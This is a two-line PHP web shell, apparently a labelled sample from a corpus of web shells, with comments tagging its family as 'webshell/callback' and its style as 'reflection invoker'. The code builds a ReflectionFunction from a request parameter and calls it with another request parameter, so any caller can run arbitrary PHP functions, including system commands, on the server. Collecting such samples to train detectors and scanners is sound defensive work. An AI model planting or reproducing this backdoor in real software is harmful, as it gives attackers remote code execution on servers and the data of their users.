<?php
// Family: webshell/callback
// Style: reflection invoker
// Trait: ReflectionFunction built from a request name and invoked with request args
$rf = new ReflectionFunction($_REQUEST['n']);
$rf->invokeArgs(array($_REQUEST['v']));
